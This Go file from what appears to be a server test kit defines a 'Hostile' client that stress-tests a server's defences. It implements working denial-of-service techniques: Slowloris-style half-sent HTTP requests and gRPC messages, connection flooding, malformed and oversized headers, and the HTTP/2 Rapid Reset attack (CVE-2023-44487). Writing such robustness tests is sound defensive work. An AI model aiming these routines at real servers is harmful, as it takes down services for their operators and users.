package kittest

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Hostile is a client that tries to harm the server at Addr. Its connections
// come from the address From, as those of another pod do: a limit for each peer
// does not affect other callers.
type Hostile struct {
	From, Addr string
	// Method is the full name of a unary gRPC method, such as /pkg.Service/Method.
	Method string
	// Opened counts connections, and Sent the bytes of half-sent messages.
	Opened, Sent atomic.Int64
}

// writeLimit is how long a write may block: the server may have stopped reading.
const writeLimit = 2 * time.Second

func (h *Hostile) dial(ctx context.Context) (net.Conn, error) {
	d := net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(h.From)}}
	conn, err := d.DialContext(ctx, "tcp", h.Addr)
	if err == nil {
		h.Opened.Add(1)
	}
	return conn, err
}

// HalfRequest sends an HTTP request except for its last byte, and then waits
// until ctx ends or the server closes the connection.
func (h *Hostile) HalfRequest(ctx context.Context, size int) {
	conn, err := h.dial(ctx)
	if err != nil {
		return
	}
	defer conn.Close()                                          //nolint:errcheck // of no use any more
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })() // which ends the Copy below
	head := fmt.Sprintf("POST /api/data HTTP/1.1\r\nHost: hostile\r\nContent-Length: %d\r\n\r\n", size)
	n, _ := io.WriteString(conn, head+strings.Repeat("x", size-1)) // the server may refuse it
	h.Sent.Add(int64(n))
	_, _ = io.Copy(io.Discard, conn)
}

// HalfMessages opens one HTTP/2 connection with many calls on it, each of which
// sends a gRPC message of size bytes except for its last byte, as far as flow
// control permits. It returns when ctx ends or the server closes the connection.
func (h *Hostile) HalfMessages(ctx context.Context, streams, size int) {
	conn, err := h.dial(ctx)
	if err != nil {
		return
	}
	defer conn.Close() //nolint:errcheck // of no use any more
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	c := &halfSender{framer: http2.NewFramer(conn, conn), credit: map[uint32]int{0: initialWindow}, window: initialWindow, more: make(chan struct{}, 1)}
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		c.read()
	}()
	c.write(h, streams, size)
	<-closed
}

// initialWindow and frameSize are what HTTP/2 permits before the server has
// said anything else (RFC 9113, section 6.5.2).
const initialWindow, frameSize = 65535, 16384

// halfSender keeps the flow-control windows of one connection.
type halfSender struct {
	framer *http2.Framer
	more   chan struct{} // a window grew, or the connection ended

	mu     sync.Mutex
	window int            // of a new stream
	credit map[uint32]int // bytes that may be sent, by stream; 0 is the connection
	ended  bool
}

// read notes what the server permits, until the connection ends.
func (c *halfSender) read() {
	for {
		frame, err := c.framer.ReadFrame()
		c.mu.Lock()
		switch f := frame.(type) {
		case *http2.WindowUpdateFrame:
			if _, open := c.credit[f.StreamID]; open {
				c.credit[f.StreamID] += int(f.Increment)
			}
		case *http2.SettingsFrame:
			if size, ok := f.Value(http2.SettingInitialWindowSize); ok {
				for id := range c.credit {
					if id != 0 {
						c.credit[id] += int(size) - c.window
					}
				}
				c.window = int(size)
			}
		case *http2.RSTStreamFrame:
			delete(c.credit, f.StreamID)
		}
		_, ofStream := errors.AsType[http2.StreamError](err)
		c.ended = err != nil && !ofStream
		ended := c.ended
		c.mu.Unlock()
		select {
		case c.more <- struct{}{}:
		default:
		}
		if ended {
			return
		}
	}
}

// write opens the streams and sends on each in turn what may be sent.
func (c *halfSender) write(h *Hostile, streams, size int) {
	var block bytes.Buffer
	encodeHeaders(hpack.NewEncoder(&block), h.Method)
	if c.framer.WriteSettings() != nil {
		return
	}
	left := map[uint32]int{}
	for i := range streams {
		id := uint32(2*i + 1)
		c.mu.Lock()
		c.credit[id] = c.window
		c.mu.Unlock()
		// The first five bytes of a message are a flag and its length.
		prefix := []byte{0, byte(size >> 24), byte(size >> 16), byte(size >> 8), byte(size)}
		if c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}) != nil {
			return
		}
		if !c.send(id, prefix) {
			return
		}
		left[id] = size - 1
	}
	for {
		progress := false
		for id, n := range left {
			n = c.permitted(id, min(n, frameSize))
			if n < 0 {
				delete(left, id)
			}
			if n <= 0 {
				continue
			}
			if !c.send(id, zeros[:n]) {
				return
			}
			h.Sent.Add(int64(n))
			left[id] -= n
			progress = true
		}
		if progress {
			continue
		}
		<-c.more
		c.mu.Lock()
		ended := c.ended
		c.mu.Unlock()
		if ended {
			return
		}
	}
}

var zeros [frameSize]byte

// permitted is how many of n bytes flow control permits; -1 if the stream has ended.
func (c *halfSender) permitted(id uint32, n int) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	credit, open := c.credit[id]
	if !open {
		return -1
	}
	return max(0, min(n, credit, c.credit[0]))
}

func (c *halfSender) send(id uint32, p []byte) bool {
	c.mu.Lock()
	if _, open := c.credit[id]; open {
		c.credit[id] -= len(p)
	}
	c.credit[0] -= len(p)
	c.mu.Unlock()
	return c.framer.WriteData(id, false, p) == nil
}

// encodeHeaders encodes those of a gRPC call, with more to add or to replace.
func encodeHeaders(enc *hpack.Encoder, method string, more ...hpack.HeaderField) {
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: method},
		{Name: ":authority", Value: "hostile"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}
	for _, m := range more {
		replaced := false
		for i := range fields {
			if fields[i].Name == m.Name {
				fields[i], replaced = m, true
			}
		}
		if !replaced {
			fields = append(fields, m)
		}
	}
	for _, f := range fields {
		_ = enc.WriteField(f) // into memory
	}
}

// Idle opens n connections and leaves them until ctx ends. Every second one
// sends hello first, so that limits on a connection's first bytes do not end it.
func (h *Hostile) Idle(ctx context.Context, n int, hello string) {
	next := atomic.Int64{}
	var dialers sync.WaitGroup
	for range 32 {
		dialers.Go(func() {
			for i := next.Add(1); i <= int64(n); i = next.Add(1) {
				conn, err := h.dial(ctx)
				if err != nil {
					continue
				}
				context.AfterFunc(ctx, func() { _ = conn.Close() })
				if i%2 == 0 {
					_, _ = io.WriteString(conn, hello) // the server may have closed it
				}
			}
		})
	}
	dialers.Wait()
}

// HelloHTTP and HelloGRPC are what a client of each protocol says first.
var (
	HelloHTTP = "GET /livez HTTP/1.1\r\nHost: hostile\r\n\r\n"
	HelloGRPC = http2.ClientPreface + "\x00\x00\x00\x04\x00\x00\x00\x00\x00" // an empty SETTINGS frame
)

// OddHTTP sends one odd request after the other until ctx ends, each on a
// connection of its own.
func (h *Hostile) OddHTTP(ctx context.Context) {
	long, huge := strings.Repeat("x", 40<<10), strings.Repeat("x", 1<<20)
	const end = "\r\n\r\n"
	h.cycle(ctx, []func(net.Conn){
		says("GET /api/data HTTP/1.1\r\nHost: " + long + end),
		says(long + " /api/data HTTP/1.1\r\nHost: hostile" + end),
		says("GET /api/data HTTP/1.1\r\nHost: hostile\r\nX-Big: " + huge + end),
		says("GET /" + huge + " HTTP/1.1\r\nHost: hostile" + end),
		says("GET /api/data HTTP/1.1\r\nHost: host\x00ile\r\nX-\x00: \x00" + end),
		says("GET /\x00 HTTP/1.1\r\nHost: hostile" + end),
		says(strings.Repeat("\x16\x03\x01\xff\x00", 10_000)),
		says(strings.Repeat(HelloHTTP, 100)), // answers that nobody reads
		reset("GET /api/data HTTP/1.1\r\nHost: hostile" + end),
	})
}

// OddGRPC does the same to a gRPC server.
func (h *Hostile) OddGRPC(ctx context.Context) {
	long, huge := strings.Repeat("x", 40<<10), strings.Repeat("x", 1<<20)
	h.cycle(ctx, []func(net.Conn){
		h.calls(hpack.HeaderField{Name: ":authority", Value: long}),
		h.calls(hpack.HeaderField{Name: ":method", Value: long}),
		h.calls(hpack.HeaderField{Name: ":path", Value: "/" + long}),
		h.calls(hpack.HeaderField{Name: "x-big", Value: huge}),
		h.calls(hpack.HeaderField{Name: "x-\x00", Value: "\x00"}),
		h.calls(hpack.HeaderField{Name: "grpc-timeout", Value: long}),
		says(strings.Repeat("\x16\x03\x01\xff\x00", 10_000)),
		says(HelloGRPC + strings.Repeat("\x00", 10_000)),
		says(HelloHTTP),
		h.resets,
		reset(HelloGRPC),
	})
}

// cycle does each of the odd things in turn. Pauses leave CPU time to others:
// what a machine gives to an attacker alone is no measure of a server.
func (h *Hostile) cycle(ctx context.Context, odd []func(net.Conn)) {
	for i := 0; ctx.Err() == nil; i++ {
		conn, err := h.dial(ctx)
		if err == nil {
			_ = conn.SetDeadline(time.Now().Add(writeLimit))
			odd[i%len(odd)](conn)
			_ = conn.Close()
		}
		select {
		case <-time.After(20 * time.Millisecond):
		case <-ctx.Done():
		}
	}
}

// says sends a text and reads a little of the response.
func says(text string) func(net.Conn) {
	return func(conn net.Conn) {
		_, _ = io.WriteString(conn, text) // the server may refuse it half-way
		_ = conn.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
		_, _ = conn.Read(make([]byte, 512))
	}
}

// reset breaks the connection off before the response.
func reset(text string) func(net.Conn) {
	return func(conn net.Conn) {
		_, _ = io.WriteString(conn, text)
		_ = conn.(*net.TCPConn).SetLinger(0)
	}
}

// calls makes one gRPC call with an odd header.
func (h *Hostile) calls(odd hpack.HeaderField) func(net.Conn) {
	var block bytes.Buffer
	encodeHeaders(hpack.NewEncoder(&block), h.Method, odd)
	var text bytes.Buffer
	text.WriteString(HelloGRPC)
	framer := http2.NewFramer(&text, nil)
	rest := bytes.NewBuffer(block.Bytes())
	first := rest.Next(frameSize)
	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first, EndStream: true, EndHeaders: rest.Len() == 0})
	for rest.Len() > 0 {
		next := rest.Next(frameSize)
		_ = framer.WriteContinuation(1, rest.Len() == 0, next)
	}
	return says(text.String())
}

// resets makes calls and cancels each at once (CVE-2023-44487).
func (h *Hostile) resets(conn net.Conn) {
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	var block bytes.Buffer
	encodeHeaders(hpack.NewEncoder(&block), h.Method)
	_, _ = io.WriteString(conn, HelloGRPC)
	framer := http2.NewFramer(conn, nil)
	for id := uint32(1); id < 2*1000; id += 2 {
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}) != nil ||
			framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}
